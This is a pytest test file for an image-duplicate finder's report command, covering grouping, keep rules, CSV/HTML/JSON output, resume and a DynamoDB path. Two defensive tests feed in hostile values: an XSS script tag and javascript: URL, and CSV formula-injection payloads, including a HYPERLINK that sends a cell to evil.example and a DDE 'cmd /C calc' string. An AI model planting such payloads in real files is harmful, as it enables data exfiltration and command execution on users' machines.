"""`python -m dupcheck duplicates`: groups, report files, bad input, resume, and the DynamoDB path.

The catalog (tests/support/duplicates.py) is built from generated pictures by the default
pipeline: two groups of copies, a product in two colours, and unrelated pictures.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from PIL import ImageDraw, ImageOps

import dupcheck_tools.duplicates as engine
import dupcheck_tools.duplicates.workers as workers
from dupcheck.adapters.sqlite_store import SqliteRecordStore
from dupcheck.adapters.sqlite_thumbnails import SqliteThumbnails
from dupcheck.api.schemas import DuplicateReport
from dupcheck.bootstrap import build_service
from dupcheck.core.errors import StoreUnavailable
from dupcheck.core.fingerprint.hashing import get_pipeline
from dupcheck.core.models import Fingerprint, HashRecord, HashValue, Marks
from dupcheck.core.settings import Settings
from dupcheck_tools.cli import main
from dupcheck_tools.duplicates import UsageError, find_duplicates
from dupcheck_tools.duplicates.workfile import WORK_NAME, Found, WorkFile
from dupcheck_tools.exit_codes import ExitCode
from dupcheck_tools.samples import encode, product_image, scene_image
from support.aws import REGION, TABLE
from support.duplicates import COLOUR_VARIANTS, EXPECTED_GROUPS, CountingStore, catalog_entries, catalog_records
from support.pool_jobs import POISON, squares


@pytest.fixture(scope="module")
def records() -> list[HashRecord]:
    return catalog_records()


@pytest.fixture
def store(tmp_path: Path, records: list[HashRecord]) -> SqliteRecordStore:
    store = SqliteRecordStore(tmp_path / "data" / "dupcheck.sqlite3")
    store.put_many(records)
    return store


def groups_of(report: dict[str, Any]) -> list[list[str]]:
    return [group["items"] for group in report["groups"]]


def test_the_report_groups_every_duplicate_keeping_the_original(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    judged: list[int] = []
    real_judge = engine.judge

    def spy(pipeline: Any, work: Any, job: Any, *marks: Any) -> Any:
        judged.extend(position for position, _ in job)
        return real_judge(pipeline, work, job, *marks)

    monkeypatch.setattr(engine, "judge", spy)
    monkeypatch.setattr(engine, "JOB_SIZE", 1)  # a record at a time: later ones see what earlier ones found
    summary = find_duplicates(store, tmp_path / "out", source="test")

    assert summary.exit_code is ExitCode.OK and not summary.interrupted
    report = summary.report
    assert report is not None
    # a-small and a-reflected-crop are each called the same picture as their original, kept as the
    # first registered; b-original is kept though b-grayscale's id sorts first: it has the colour.
    assert groups_of(report) == EXPECTED_GROUPS
    assert [group["keep"] for group in report["groups"]] == ["a-original", "b-original"]
    assert [group["keep_by"] for group in report["groups"]] == ["registered", "pictures"]
    assert report["groups"][1]["keep_reason"] == "the original: the others are edits of it (b-grayscale in grayscale)"
    grouped = {item for group in groups_of(report) for item in group}
    assert not grouped & set(COLOUR_VARIANTS)  # the same product in another colour is another SKU
    pairs = [pair for group in report["groups"] for pair in group["pairs"]]
    assert all(pair["a"] != pair["b"] and pair["verdict"] == "duplicate" for pair in pairs)
    assert len({(pair["a"], pair["b"]) for pair in pairs}) == len(pairs)  # both directions: one pair
    edits = {(pair["a"], pair["b"]): pair["edit"] for pair in pairs}
    # What turns the record kept into the other, as the other's check against it names it.
    assert "mirrored" in edits[("a-original", "a-reflected-crop")]
    assert "cropped" in edits[("a-original", "a-reflected-crop")]
    assert edits[("b-original", "b-grayscale")] == "converted to grayscale"
    assert (report["records"], report["compared"], report["pipeline"]) == (10, 10, "dualphash128-v5")
    assert (summary.groups, summary.duplicates) == (2, 3)
    assert not (tmp_path / "out" / WORK_NAME).exists()  # removed once the report is written
    # Every record with candidates is judged, those already found by another too: each pair both ways.
    assert summary.judged == len(set(judged)) and summary.judged >= 5 + len(COLOUR_VARIANTS)


def test_the_original_is_kept_over_copies_registered_before_it_under_smaller_ids(tmp_path: Path) -> None:
    """The walk that found the old rule (the smallest id) wrong: an import of copies of
    magento_0003 under ids that sort first. Registered before it too (a backfill finishing in any
    order), the copies the pictures show to be edits of it are not kept, and each pair says what
    turns the original into the copy."""
    original = scene_image(31)
    width, height = original.size
    copies = {
        "copy-1": original.crop((width // 20, height // 20, width - width // 20, height - height // 20)),
        "copy-2": ImageOps.pad(original, (width, width), color=(255, 255, 255)),  # to a square, on white
        "bf-copy": ImageOps.grayscale(original).convert("RGB"),
        "cli-warn": original.resize((width // 3, height // 3)),
    }
    service = build_service(Settings.from_env({}, data_dir=tmp_path / "data"))
    for entity_id, picture in [*copies.items(), ("magento_0003", original)]:  # the original registered last
        service.registrar.register_bytes(entity_id=entity_id, sku=f"SKU-{entity_id}", data=encode(picture),
                                         image_url=f"https://cdn.shop.example/{entity_id}.jpg")  # fmt: skip
    summary = find_duplicates(service.parts.store, tmp_path / "out", source="test", thumbnails=service.parts.thumbnails)

    assert summary.report is not None
    (group,) = summary.report["groups"]
    assert group["keep"] == "magento_0003" and sorted(group["items"]) == sorted([*copies, "magento_0003"])
    assert group["keep_by"] == "pictures"
    assert group["keep_reason"] == ("the original: the others are edits of it (copy-1 cropped, copy-2 padded, bf-copy "
                                    "in grayscale and cli-warn smaller)")  # fmt: skip
    edits = {pair["b"]: pair["edit"] for pair in group["pairs"] if pair["a"] == "magento_0003"}
    assert edits["copy-1"].startswith("cropped (5% off the left, 5% off the right")
    assert edits["copy-2"] == "padded (top, bottom)"  # not "magento_0003: cropped", the copy read backwards
    assert edits["bf-copy"] == "converted to grayscale"
    assert edits["cli-warn"] == "no visible edit"  # smaller: resizing is no edit a match names
    with (tmp_path / "out" / "duplicates.csv").open(newline="") as fh:
        kept = [row for row in csv.DictReader(fh) if row["keep"] == "true"]
    assert [(row["entity_id"], row["keep_reason"]) for row in kept] == [("magento_0003", group["keep_reason"])]
    page = (tmp_path / "out" / "report.html").read_text()
    assert f"Keep magento_0003: {group['keep_reason']}." in page


def test_each_pair_names_the_edits_a_check_of_the_copy_against_the_original_names(tmp_path: Path) -> None:
    """The report's pair of an original and its copy says what find_similar says of the copy
    against the original: the same edits, from the original to the copy (a badge, which only the
    same-photograph test shows, too)."""
    original = scene_image(41)
    width, height = original.size
    badged = original.copy()
    side = height // 5
    ImageDraw.Draw(badged).rectangle((width - side - 8, 8, width - 8, 8 + side), fill=(220, 20, 40))
    ImageDraw.Draw(badged).text((width - side, 20), "SALE", fill=(255, 255, 255))
    copies = {
        "badged": badged,
        "mirrored": ImageOps.mirror(original),
        "cropped": original.crop((width // 20, height // 20, width - width // 20, height - height // 20)),
    }
    service = build_service(Settings.from_env({}, data_dir=tmp_path / "data"))
    for entity_id, picture in [("original", original), *copies.items()]:
        service.registrar.register_bytes(entity_id=entity_id, sku=entity_id, data=encode(picture),
                                         image_url=f"https://cdn.shop.example/{entity_id}.jpg")  # fmt: skip
    summary = find_duplicates(service.parts.store, tmp_path / "out", source="test", thumbnails=service.parts.thumbnails)

    assert summary.report is not None
    (group,) = summary.report["groups"]
    assert group["keep"] == "original"
    said = {pair["b"]: pair["edits"] for pair in group["pairs"] if pair["a"] == "original"}
    for entity_id, picture in copies.items():
        match = next(
            m for m in service.lookups.find_similar_bytes(encode(picture)).matches if m.entity_id == "original"
        )
        assert match.edits is not None and said[entity_id] is not None
        assert [e["edit"] for e in said[entity_id]] == [e.name for e in match.edits], entity_id
    assert [e["edit"] for e in said["badged"]] == ["overlay"] and said["badged"][0]["where"] == "top right"


def test_a_wrong_link_stays_one_related_pair_beside_the_group(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Verification wrongly calls other-1 a duplicate of a-small: as connected components this
    # pulled other-1 into a-original's group; now it is one related pair beside the group.
    real_judge = engine.judge
    added: list[bool] = []

    def judge_with_a_wrong_link(pipeline: Any, work: Any, job: Any, *marks: Any) -> Any:
        found = real_judge(pipeline, work, job, *marks)
        if not added:
            position = {listing.entity_id: p for p, listing in work.listings(range(work.count())).items()}
            found.append(Found(position["other-1"], position["a-small"], 20, 90.0, None))
            added.append(True)
        return found

    monkeypatch.setattr(engine, "judge", judge_with_a_wrong_link)
    summary = find_duplicates(store, tmp_path / "out", source="test")

    assert summary.report is not None and groups_of(summary.report) == EXPECTED_GROUPS
    related = summary.report["groups"][0]["related"]
    assert [(pair["a"], pair["b"]) for pair in related] == [("a-small", "other-1")]
    assert summary.related == 1 and "1 related pairs listed beside them" in summary.message


class _ReadThumbnails(SqliteThumbnails):
    """The local thumbnail store, noting which thumbnails were read."""

    def __init__(self, path: Path) -> None:
        super().__init__(path)
        self.read: list[str] = []

    def get_many(self, entity_ids: Sequence[str]) -> dict[str, bytes]:
        self.read.extend(entity_ids)
        return super().get_many(entity_ids)


def test_records_with_thumbnails_are_judged_as_a_new_upload_of_their_picture(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    entries = catalog_entries()
    store = SqliteRecordStore(tmp_path / "data" / "dupcheck.sqlite3")
    store.put_many([entry.record for entry in entries])
    thumbnails = _ReadThumbnails(tmp_path / "data" / "thumbnails.sqlite3")
    kept = {entry.record.entity_id: entry.thumbnail for entry in entries}
    del kept["a-small"]  # a record whose thumbnail is missing
    thumbnails.put_many(kept)
    pictures: dict[str, bool] = {}
    looked_at: list[frozenset[str]] = []  # (query, candidate) pairs the look-alike check was given
    pipeline = get_pipeline()
    real_query, real_kept = pipeline.stored_query, workers._kept

    def spy(record: HashRecord, hashes: tuple[HashValue, ...], thumbnail: bytes = b"") -> Fingerprint | None:
        query = real_query(record, hashes, thumbnail)
        pictures[record.entity_id] = query is not None and query.probe.rgb is not None
        return query

    def kept_spy(thumbnails: Mapping[str, bytes], entity_ids: Sequence[str]) -> dict[str, bytes]:
        found = real_kept(thumbnails, entity_ids)
        looked_at.extend(frozenset((list(pictures)[-1], entity_id)) for entity_id in found)
        return found

    monkeypatch.setattr(pipeline, "stored_query", spy)
    monkeypatch.setattr(workers, "_kept", kept_spy)
    monkeypatch.setattr(engine, "JOB_SIZE", 2)  # confirmations reach later jobs and later queries of one job
    summary = find_duplicates(store, tmp_path / "out", source="test", pipeline=pipeline, thumbnails=thumbnails)

    assert summary.report is not None and groups_of(summary.report) == EXPECTED_GROUPS
    assert "thumbnails" in summary.phases_s
    # Read once, for the records with candidates only: the groups' (the unrelated pictures have none).
    assert len(thumbnails.read) == len(set(thumbnails.read))
    assert {item for group in EXPECTED_GROUPS for item in group} <= set(thumbnails.read)
    assert not {f"other-{i}" for i in range(1, 4)} & set(thumbnails.read)
    # Each query judged had its picture (its thumbnail), but the one whose thumbnail is missing.
    assert pictures and pictures.pop("a-small", False) is False and all(pictures.values())
    # Each pair is given the same-photograph test from both sides, a duplicate pair too (what each
    # side names tells which is the original), as are the colour variants (one photo, two colours).
    looks = Counter(looked_at)
    assert looks[frozenset(("a-original", "a-reflected-crop"))] == 2 and looks[frozenset(COLOUR_VARIANTS)] == 2
    assert max(looks.values()) == 2
    # ... and are in no group, nor related to one.
    assert not any({p["a"], p["b"]} & set(COLOUR_VARIANTS) for g in summary.report["groups"] for p in g["related"])


def test_the_report_files(store: SqliteRecordStore, tmp_path: Path, records: list[HashRecord]) -> None:
    # A record with hostile fields, holding a-original's picture: the page must show it as text.
    original = next(r for r in records if r.entity_id == "a-original")
    store.put(dataclasses.replace(original, entity_id="a-unsafe", sku="<script>alert(1)</script>",
                                  image_url="javascript:alert(1)", updated_at="2026-04-01T00:00:00.000Z"))  # fmt: skip
    out = tmp_path / "out"
    find_duplicates(store, out, source="test")

    report = json.loads((out / "duplicates.json").read_text())
    DuplicateReport.model_validate(report)  # what GET /duplicates serves
    assert report["groups"][0]["items"] == ["a-original", "a-reflected-crop", "a-small", "a-unsafe"]
    assert report["keep_rule"].startswith("the original") and report["radius"] == engine.DEFAULT_RADIUS
    assert report["groups"][0]["keep_reason"] == ("registered first: the pictures do not tell which is the "
                                                  "original")  # fmt: skip
    assert report["far_radius"] == engine.FAR_RADIUS  # a catalog of 11 records (10 and a copy): the far band runs

    with (out / "duplicates.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == ["group", "entity_id", "sku", "image_url", "keep", "keep_reason"]
    assert [(r["group"], r["entity_id"], r["keep"]) for r in rows] == [
        ("1", "a-original", "true"), ("1", "a-reflected-crop", "false"), ("1", "a-small", "false"),
        ("1", "a-unsafe", "false"), ("2", "b-original", "true"), ("2", "b-grayscale", "false"),
    ]  # fmt: skip
    assert [r["keep_reason"] for r in rows] == [report["groups"][0]["keep_reason"], "", "", "",
                                                report["groups"][1]["keep_reason"], ""]  # fmt: skip
    assert rows[0]["image_url"] == "https://cdn.shop.example/p/a-original.jpg" and rows[0]["sku"] == "SKU-A-ORIGINAL"

    page = (out / "report.html").read_text()
    assert page.startswith("<!doctype html>") and "2 groups of records holding the same picture" in page
    assert f"within {engine.DEFAULT_RADIUS} bits (and each record's nearest within {engine.FAR_RADIUS})" in page
    assert '<img src="https://cdn.shop.example/p/b-grayscale.jpg"' in page
    assert "Keep b-original: the original: the others are edits of it (b-grayscale in grayscale)." in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script" not in page
    assert "javascript:" not in page  # no picture from a URL that is not one
    assert "a-original and a-reflected-crop: The same picture (" in page and "% match): mirrored" in page
    assert "default-src 'none'" in page  # nothing runs when it is opened from disk


def test_the_csv_keeps_a_spreadsheet_from_evaluating_a_cell(store: SqliteRecordStore, tmp_path: Path,
                                                            records: list[HashRecord]) -> None:  # fmt: skip
    """Ids and SKUs come from whoever filled the catalog: a cell a spreadsheet would evaluate as a
    formula is written as text (a leading '), in the CSV only."""
    original = next(r for r in records if r.entity_id == "a-original")
    hostile = {'=HYPERLINK("http://evil.example/?"&A1,"open")': "@SUM(1+1)*cmd|' /C calc'!A0",
               "+1+1": "-2+3", "@x": "\t=1+1", "-x": "\r=1"}  # fmt: skip
    for i, (entity_id, sku) in enumerate(hostile.items()):
        store.put(dataclasses.replace(original, entity_id=entity_id, sku=sku, image_url=f"=IMAGE({i})",
                                      updated_at=f"2026-04-0{i + 1}T00:00:00.000Z"))  # fmt: skip
    out = tmp_path / "out"
    find_duplicates(store, out, source="test")
    with (out / "duplicates.csv").open(newline="") as fh:
        rows = {r["entity_id"]: r for r in csv.DictReader(fh)}
    for entity_id, sku in hostile.items():
        row = rows["'" + entity_id]
        assert (row["sku"], row["image_url"][:2]) == ("'" + sku, "'=")
    assert rows["a-original"]["sku"] == "SKU-A-ORIGINAL"  # ordinary cells as they are
    group = json.loads((out / "duplicates.json").read_text())["groups"][0]["items"]
    assert set(hostile) <= set(group)  # the JSON keeps them as they are


def test_a_picture_held_by_more_records_than_a_candidate_pool_is_one_group_kept_by_the_oldest(
    tmp_path: Path, records: list[HashRecord]
) -> None:
    # One picture uploaded 40 times (a placeholder): more copies than a record's candidates (32).
    # Each copy is paired with the first ones in keep order (the pictures cannot tell one file from
    # itself: the earliest registered), so every copy is the kept record's duplicate, though the
    # kept one, p-9, registered first, is read last (the store reads ids as text).
    original = next(r for r in records if r.entity_id == "a-original")
    store = SqliteRecordStore(tmp_path / "data" / "dupcheck.sqlite3")
    copies = [
        dataclasses.replace(original, entity_id=f"p-{i + 10}", updated_at=f"2026-05-{2 + i % 25:02d}T0{i // 25}:00:00Z")
        for i in range(39)
    ]
    copies.append(dataclasses.replace(original, entity_id="p-9", updated_at="2026-04-01T00:00:00Z"))
    store.put_many(copies)
    summary = find_duplicates(store, tmp_path / "out", source="test")

    assert summary.report is not None
    (group,) = summary.report["groups"]
    assert group["keep"] == "p-9" and sorted(group["items"]) == sorted(c.entity_id for c in copies)
    assert group["related"] == [] and summary.related == 0 and "related" not in summary.message


def test_related_pairs_are_in_every_report_file(tmp_path: Path) -> None:
    from dupcheck_tools.duplicates.grouping import Pair, group_duplicates
    from dupcheck_tools.duplicates.report import report_document, write_reports
    from dupcheck_tools.duplicates.workfile import Found, Listing

    listings = {i: Listing(name, f"SKU-{name}", f"https://cdn.shop.example/p/{name}.jpg", f"2026-01-0{i + 1}T00:00:00Z")
                for i, name in enumerate(("kept", "kept-copy", "look-alike"))}  # fmt: skip
    # kept-copy is kept's duplicate; look-alike was called the same picture as kept-copy only.
    groups = group_duplicates([Found(1, 0, 2, 98.0, ()), Found(2, 1, 9, 93.0, ())], listings, 64)
    out = tmp_path / "out"
    document = report_document({"pipeline": "p", "records": 3, "elapsed_s": 0.1}, groups)
    write_reports(out, document, groups)

    report = json.loads((out / "duplicates.json").read_text())
    DuplicateReport.model_validate(report)
    assert report["groups"][0]["items"] == ["kept", "kept-copy"]
    assert [(p["a"], p["b"]) for p in report["groups"][0]["related"]] == [("kept-copy", "look-alike")]
    assert "not as the one kept" in report["group_rule"]
    page = (out / "report.html").read_text()
    assert "Related, not in the group (not called the same picture as kept)" in page
    assert "kept-copy and look-alike: The same picture (93% match)" in page
    with (out / "duplicates.csv").open(newline="") as fh:
        assert [row["entity_id"] for row in csv.DictReader(fh)] == ["kept", "kept-copy"]
    assert isinstance(groups[0].related[0], Pair)


def test_an_empty_store_gives_an_empty_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["--data-dir", str(tmp_path / "data"), "duplicates", "--no-progress"])

    summary = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert code == ExitCode.OK and summary["groups"] == 0 and summary["records"] == 0
    report = json.loads((tmp_path / "data" / "duplicates" / "duplicates.json").read_text())
    assert report["groups"] == [] and report["records"] == 0
    assert "No duplicates" in (tmp_path / "data" / "duplicates" / "report.html").read_text()


def test_records_of_another_pipeline_are_reported_with_what_upgrades_them(
    tmp_path: Path, records: list[HashRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    store = SqliteRecordStore(tmp_path / "data" / "dupcheck.sqlite3")
    store.put_many(records)
    store.put_many(HashRecord(f"old-{i}", "", "https://cdn.shop.example/old.jpg", HashValue(bytes(8)), "phash64-v1")
                   for i in range(2))  # fmt: skip

    code = main(["--data-dir", str(tmp_path / "data"), "duplicates", "--no-progress"])

    streams = capsys.readouterr()
    summary = json.loads(streams.out.strip().splitlines()[-1])
    assert code == ExitCode.FAILED  # not everything was compared
    assert "2 of 12 records were not compared" in streams.err and "reindex" in streams.err
    report = json.loads((tmp_path / "data" / "duplicates" / "duplicates.json").read_text())
    assert report["skipped"]["other_pipelines"] == {"phash64-v1": 2} and summary["skipped"]["records"] == 2
    assert (report["records"], report["compared"]) == (12, 10)
    assert groups_of(report) == EXPECTED_GROUPS  # the rest is still compared
    # and the local API serves what was written
    service = build_service(Settings.from_env({}, data_dir=tmp_path / "data"))
    assert service.records.duplicate_report()["groups"] == report["groups"]


def test_an_interrupted_run_goes_on_where_it_stopped(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    judged: list[int] = []
    real_judge = engine.judge

    def judge_then_stop(pipeline: Any, work: Any, job: Any, *marks: Any) -> Any:
        if len(judged) >= 2:
            raise KeyboardInterrupt  # Ctrl-C during the third job
        judged.extend(position for position, *_ in job)
        return real_judge(pipeline, work, job, *marks)

    monkeypatch.setattr(engine, "JOB_SIZE", 2)
    monkeypatch.setattr(engine, "judge", judge_then_stop)
    first = find_duplicates(store, out, source="test")  # type: ignore[arg-type]
    assert first.interrupted and first.exit_code is ExitCode.INTERRUPTED
    assert "--resume" in first.message and (out / WORK_NAME).exists()
    assert not (out / "duplicates.json").exists()

    resumed: list[int] = []

    def judge_counted(pipeline: Any, work: Any, job: Any, *marks: Any) -> Any:
        resumed.extend(position for position, *_ in job)
        return real_judge(pipeline, work, job, *marks)

    monkeypatch.setattr(engine, "judge", judge_counted)
    counting = CountingStore(store)
    second = find_duplicates(counting, out, source="test", resume=True)  # type: ignore[arg-type]

    assert second.resumed and not second.interrupted and counting.scans == 0
    assert judged and resumed and not set(judged) & set(resumed)  # nothing judged twice
    assert second.report is not None and groups_of(second.report) == EXPECTED_GROUPS
    assert not (out / WORK_NAME).exists()


class _FailingStore(CountingStore):
    """A store that stops answering after a few records (a network that went away)."""

    def scan(self, segments: int = 1) -> Iterator[HashRecord]:
        for number, record in enumerate(self.store.scan(segments)):
            if number == 7:
                raise StoreUnavailable("the store stopped answering")
            yield record


def test_a_store_that_fails_mid_read_leaves_no_worker_behind(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import multiprocessing

    monkeypatch.setattr(engine, "READ_BATCH", 3)  # the query hashes go to the worker processes
    with pytest.raises(StoreUnavailable):
        find_duplicates(_FailingStore(store), tmp_path / "out", source="test", workers=2)  # type: ignore[arg-type]
    assert not multiprocessing.active_children()
    # The read did not finish: a resumed run reads again, and finds the same groups.
    again = find_duplicates(store, tmp_path / "out", source="test", resume=True)
    assert not again.resumed and again.report is not None and groups_of(again.report) == EXPECTED_GROUPS


def test_each_steps_processes_stop_with_its_jobs_and_a_read_job_that_kills_its_process_is_done_here(
    tmp_path: Path,
) -> None:
    """The read's jobs in processes (squares standing for query hashes): one whose process dies
    every time it runs (SIGKILL, twice) is done in this process instead, and no process outlives
    the step's jobs: none idles through the next step."""
    import multiprocessing

    WorkFile(tmp_path / WORK_NAME).close()  # what the processes' initializer opens
    processes = engine._Processes(2, get_pipeline().algo, tmp_path / WORK_NAME)
    jobs = [[1, 2], [3, POISON], [5]]
    done = list(processes.map(lambda items: [-n for n in items], squares, jobs, use_pool=True))
    assert done == [([1, 2], [1, 4]), ([3, POISON], [-3, -POISON]), ([5], [25])]
    assert not multiprocessing.active_children()


def test_resume_refuses_the_work_of_another_run(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stop(*_: Any) -> Any:
        raise KeyboardInterrupt

    monkeypatch.setattr(engine, "judge", stop)
    assert find_duplicates(store, tmp_path / "out", source="test").interrupted
    monkeypatch.undo()
    with pytest.raises(UsageError, match="another run"):
        find_duplicates(store, tmp_path / "out", source="test", radius=5, resume=True)
    with pytest.raises(UsageError, match="another run"):
        find_duplicates(store, tmp_path / "out", source="another store", resume=True)
    with pytest.raises(UsageError, match="another run"):
        find_duplicates(store, tmp_path / "out", source="test", far_radius=0, resume=True)
    fresh = find_duplicates(store, tmp_path / "out", source="test", radius=5)  # without --resume: starts again
    assert fresh.report is not None and groups_of(fresh.report) == EXPECTED_GROUPS


def test_an_output_that_is_not_a_folder_is_refused(store: SqliteRecordStore, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    (tmp_path / "taken").write_text("a file")
    code = main(["--data-dir", str(store.path.parent), "duplicates", "--out", str(tmp_path / "taken"), "--no-progress"])
    assert code == ExitCode.USAGE and "is a file" in capsys.readouterr().err
    assert (tmp_path / "taken").read_text() == "a file"


@pytest.mark.parametrize("option", ["radius", "far_radius"])
def test_a_radius_the_index_cannot_answer_exactly_is_refused(
    option: str, store: SqliteRecordStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    flag = "--" + option.replace("_", "-")
    with pytest.raises(UsageError, match="radius"):
        find_duplicates(store, tmp_path / "out", source="test", **{option: 12})
    code = main(["--data-dir", str(store.path.parent), "duplicates", flag, "12", "--no-progress"])
    assert code == ExitCode.USAGE and "radius" in capsys.readouterr().err
    code = main(["--data-dir", str(store.path.parent), "duplicates", flag, "-1", "--no-progress"])
    assert code == ExitCode.USAGE and "radius" in capsys.readouterr().err


def test_the_far_band_runs_by_default_up_to_its_catalog_size_and_when_asked(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bands: list[int] = []
    real_candidates = engine._candidates

    def spy(work: Any, pipeline: Any, radius: int, progress: bool, far_radius: int = 0) -> Any:
        bands.append(far_radius)
        return real_candidates(work, pipeline, radius, progress, far_radius)

    monkeypatch.setattr(engine, "_candidates", spy)
    assert find_duplicates(store, tmp_path / "a", source="test").far_radius == engine.FAR_RADIUS
    monkeypatch.setattr(engine, "FAR_BAND_UP_TO", 9)  # the catalog has 10 records
    above = find_duplicates(store, tmp_path / "b", source="test")
    assert above.far_radius == 0 and above.report is not None and above.report["far_radius"] == 0
    assert find_duplicates(store, tmp_path / "c", source="test", far_radius=9).far_radius == 9
    assert find_duplicates(store, tmp_path / "d", source="test", far_radius=0).far_radius == 0
    assert bands == [engine.FAR_RADIUS, 0, 9, 0]
    # Its candidates are verified as the others are: the groups are the same on this catalog.
    assert above.report is not None and groups_of(above.report) == EXPECTED_GROUPS


def test_work_in_processes_finds_the_same_groups(
    store: SqliteRecordStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Small batches and jobs: the query hashes and the verification both run in the pool.
    monkeypatch.setattr(engine, "READ_BATCH", 3)
    monkeypatch.setattr(engine, "IN_PROCESS_BELOW", 0)
    monkeypatch.setattr(engine, "JOB_SIZE", 3)
    summary = find_duplicates(store, tmp_path / "out", source="test", workers=2)
    assert summary.report is not None and groups_of(summary.report) == EXPECTED_GROUPS


def test_the_dynamodb_table_is_read_once_and_paired_in_memory(
    ddb_store: Any, records: list[HashRecord], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import boto3

    from dupcheck.adapters.s3_thumbnails import S3Thumbnails

    ddb_store.put_many(records)
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket="dupcheck-thumbnails")
    thumbnails = S3Thumbnails("dupcheck-thumbnails", client=s3)
    thumbnails.put_many({entry.record.entity_id: entry.thumbnail for entry in catalog_entries()})
    calls: Counter[str] = Counter()
    ddb_store.client.meta.events.register("before-call.dynamodb.*", lambda model, **_: calls.update([model.name]))
    s3.meta.events.register("before-call.s3.*", lambda model, **_: calls.update([model.name]))

    summary = find_duplicates(ddb_store, tmp_path / "out", source=f"dynamodb:{TABLE}", segments=3,
                              thumbnails=thumbnails)  # fmt: skip

    assert summary.report is not None and groups_of(summary.report) == EXPECTED_GROUPS
    # One parallel scan (a segment each, one page each at this size) and the table's size for
    # the progress bar: no read of a record by key, no query; and the thumbnails of the records
    # with candidates alone (the groups' five and the shirt in two colours), from the bucket.
    assert calls == Counter({"Scan": 3, "DescribeTable": 1, "GetObject": 7})
    thumbnails.close()

    code = main(["--data-dir", str(tmp_path / "data"), "duplicates", "--target", "dynamodb", "--table", TABLE,
                 "--out", str(tmp_path / "cli"), "--no-progress"])  # fmt: skip
    summary_line = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert code == ExitCode.OK and summary_line["groups"] == 2
    assert groups_of(json.loads((tmp_path / "cli" / "duplicates.json").read_text())) == EXPECTED_GROUPS


def test_the_notebook_report_is_the_json_written(store: SqliteRecordStore, tmp_path: Path) -> None:
    summary = find_duplicates(store, tmp_path / "out", source="test")
    assert summary.report == json.loads((tmp_path / "out" / "duplicates.json").read_text())
    assert json.loads(json.dumps(summary.to_dict()))["files"] == [
        str(tmp_path / "out" / name) for name in ("duplicates.csv", "report.html", "duplicates.json")
    ]
    assert io.StringIO((tmp_path / "out" / "duplicates.csv").read_text()).readline().strip() == (
        "group,entity_id,sku,image_url,keep,keep_reason"
    )


def test_verification_processes_run_one_blas_thread_each(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A process a core, each with BLAS threads of its own, contend for the cores: the pool's
    processes get one BLAS thread, and the report's own environment is as it was after."""
    monkeypatch.setenv("OPENBLAS_NUM_THREADS", "4")
    monkeypatch.delenv("OMP_NUM_THREADS", raising=False)
    work = WorkFile(tmp_path / WORK_NAME)
    work.start({"source": "test"})
    work.close()
    processes = engine._Processes(2, get_pipeline().algo, tmp_path / WORK_NAME)
    try:
        names = ["OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS"] * 3
        seen = [value for _, value in processes.map(lambda name: "here", os.getenv, names, use_pool=True)]
    finally:
        processes.close()
    assert seen == ["1"] * len(names)
    assert os.environ["OPENBLAS_NUM_THREADS"] == "4" and "OMP_NUM_THREADS" not in os.environ


@pytest.mark.parametrize("seed", [201, 209])
def test_under_marks_product_another_print_of_one_photo_is_no_duplicate_in_the_report(
    tmp_path: Path, seed: int
) -> None:
    """Issue 83: a print-on-demand line (one photo, another design on its chest per product)
    beside a copy of the photo recompressed and one with a caption band across it. Under `photo`
    every one is a copy of the photo; under `product` each print is a product of its own, and
    the copy and the band (an overlay across the backdrop) stay in the photo's group."""
    plain = product_image(seed, (480, 480))
    pictures = {"tee": plain, "print-square": plain.copy(), "print-round": plain.copy(), "tee-band": plain.copy()}
    ImageDraw.Draw(pictures["print-square"]).rectangle((215, 215, 265, 255), fill=(20, 30, 160))
    ImageDraw.Draw(pictures["print-round"]).ellipse((200, 205, 280, 265), fill=(230, 200, 20))
    ImageDraw.Draw(pictures["tee-band"]).rectangle((0, 380, 479, 430), fill=(20, 20, 20))
    service = build_service(Settings.from_env({}, data_dir=tmp_path / "data"))
    for name, picture in pictures.items():  # the photo first: the one the report keeps
        service.registrar.register_bytes(entity_id=name, sku="", image_url="", data=encode(picture))
    service.registrar.register_bytes(entity_id="tee-copy", sku="", image_url="", data=encode(plain, quality=70))
    found = {}
    for marks in Marks:
        summary = find_duplicates(service.parts.store, tmp_path / marks.value, source="test",
                                  thumbnails=service.parts.thumbnails, workers=1, marks=marks)  # fmt: skip
        assert summary.report is not None and summary.report["marks"] == marks.value
        found[marks] = [sorted(group) for group in groups_of(summary.report)]
    prints = {"print-square", "print-round"}
    [photo_group] = found[Marks.PHOTO]
    assert {"tee", "tee-copy", *prints} <= set(photo_group)  # (the band, where the report's radius reaches it)
    assert found[Marks.PRODUCT] == [sorted(set(photo_group) - prints)]
    # The command line's --marks, over the same store.
    code = main(["--data-dir", str(tmp_path / "data"), "duplicates", "--marks", "product", "--no-progress"])
    report = json.loads((tmp_path / "data" / "duplicates" / "duplicates.json").read_text())
